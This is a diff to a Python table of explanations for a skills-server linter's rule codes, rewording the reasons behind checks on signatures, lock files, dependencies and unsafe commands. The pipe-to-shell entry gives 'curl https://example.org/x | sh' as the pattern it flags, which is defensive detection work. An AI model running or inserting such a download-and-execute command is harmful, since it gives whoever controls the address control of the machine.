@@ -1,4 +1,4 @@
-"""What each code means, why it matters, and an example: `rules`, the documentation and SARIF read this table."""
+"""Explanations of the codes, with reasons and examples, for `rules`, the documentation and SARIF."""
 
 from __future__ import annotations
 
@@ -87,16 +87,16 @@ EXPLANATIONS: Final[dict[str, Explanation]] = {
         "a skill that the lock file does not name", "Only what was reviewed and locked is served."
     ),
     "lock-differs": Explanation("a skill that is not as it was locked", "Only what was reviewed and locked is served."),
-    "signature-missing": Explanation("a skill without the signature that is required", "Nobody vouches for it."),
-    "signature-invalid": Explanation("a signature by none of the given keys", "Somebody else made or changed it."),
-    "signature-files": Explanation("files that are not as they were signed", "Somebody changed them afterwards."),
+    "signature-missing": Explanation("a skill without the signature that is required", "No author vouches for it."),
+    "signature-invalid": Explanation("a signature by none of the given keys", "Another person made or changed it."),
+    "signature-files": Explanation("files that are not as they were signed", "They were changed afterwards."),
     "signature-expired": Explanation(
         "a signature by a certificate that is not valid now", "Its owner may have revoked it."
     ),
     "source-refused": Explanation(
         "a skill that its source does not prove", "Its bytes are not those that were announced."
     ),
-    "commit-unsigned": Explanation("a commit without a signature that is allowed", "Nobody vouches for it."),
+    "commit-unsigned": Explanation("a commit without a signature that is allowed", "No author vouches for it."),
     "shadowed": Explanation("a skill that another one of the same path hides", "Only the first one is served."),
     "name-shared": Explanation("a name that several skills have", "A host that knows names alone loads either."),
     "link-outside": Explanation(
@@ -147,7 +147,7 @@ EXPLANATIONS: Final[dict[str, Explanation]] = {
     "reference-outside": Explanation(
         "a reference that leaves the skill", "The file is not served with the skill.", "See [team rules](../rules.md)."
     ),
-    "dependency-unresolved": Explanation("a dependency that is not served", "The skill relies on what nobody has."),
+    "dependency-unresolved": Explanation("a dependency that is not served", "No client of this server can have it."),
     "manifest-incomplete": Explanation(
         "a skill.toml without a field that is wanted", "The Skills Protocol fills in a guess."
     ),
@@ -166,7 +166,7 @@ EXPLANATIONS: Final[dict[str, Explanation]] = {
     "icon-source": Explanation("an icon from a place that is not allowed", "Hosts do not show it."),
     "pipe-to-shell": Explanation(
         "a download that goes straight into an interpreter",
-        "Whoever controls the address controls the machine.",
+        "The owner of the address controls the machine.",
         "curl https://example.org/x | sh",
     ),
     "encoded-command": Explanation(
